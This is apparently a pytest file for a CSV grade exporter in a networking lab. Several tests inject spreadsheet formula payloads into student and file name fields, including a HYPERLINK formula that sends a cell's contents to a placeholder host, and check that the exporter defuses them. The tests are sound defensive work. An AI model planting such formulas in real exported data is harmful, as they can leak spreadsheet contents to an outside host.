from __future__ import annotations

import csv
import io
from dataclasses import replace

import pytest
from graded import SHEET, graded, hostile_grade, refused

from lab.grade.mark import Grade
from lab.report.grades.csv_file import grades_csv, remarks_on


def rows(*grades: Grade) -> list[list[str]]:
    return list(csv.reader(io.StringIO(grades_csv(SHEET, grades), newline="")))


def test_a_line_for_each_student() -> None:
    head, good, bad = rows(graded("tcp4"), graded("half-close4"))
    checks = [check.name for check in SHEET.checks]
    assert head == ["student", "file", "score", "max_score", *checks, "remarks"]
    assert good == ["tcp4", "tcp4.pcapng", "5", "5", "2", "1.5", "0.5", "1", ""]
    assert bad[2:4] == ["3", "5"]


def test_what_is_undecided_or_refused_says_why() -> None:
    _, udp, none = rows(graded("udp4"), refused())
    assert udp[2] == none[2] == "0"
    assert udp[-1] == "undecided: opens, ends, clean, quick: no TCP connection was seen"
    assert none[-1] == "it is no capture"
    assert remarks_on(graded("half-close4")) == ""


@pytest.mark.parametrize("first", ["=", "+", "-", "@", "\t", "\r", "\n", "|", "%", "＝"])
def test_no_cell_is_a_formula_to_a_spreadsheet(first: str) -> None:
    name = f'{first}HYPERLINK("http://x"&A1)'
    grade = replace(graded("tcp4"), student=name, file=name, refused=name)
    for line in rows(grade)[1:]:
        for cell in line:
            assert cell[0] not in "=+-@\t\r\n|%＝"


@pytest.mark.parametrize("formula", ["a;=1+1", "a; =1+1", "a;@x", "a;＝1"])
def test_none_is_one_behind_a_semicolon(formula: str) -> None:
    grade = replace(graded("tcp4"), student=formula, file="a;b", refused=formula)
    line = rows(grade)[1]
    assert ";" not in line[0] + line[-1]
    assert line[1] == "a;b"


def test_hostile_names_stay_in_their_cells() -> None:
    table = rows(hostile_grade(), graded("tcp4"))
    assert [len(line) for line in table] == [9, 9, 9]
    assert all(cell.isprintable() for line in table for cell in line)
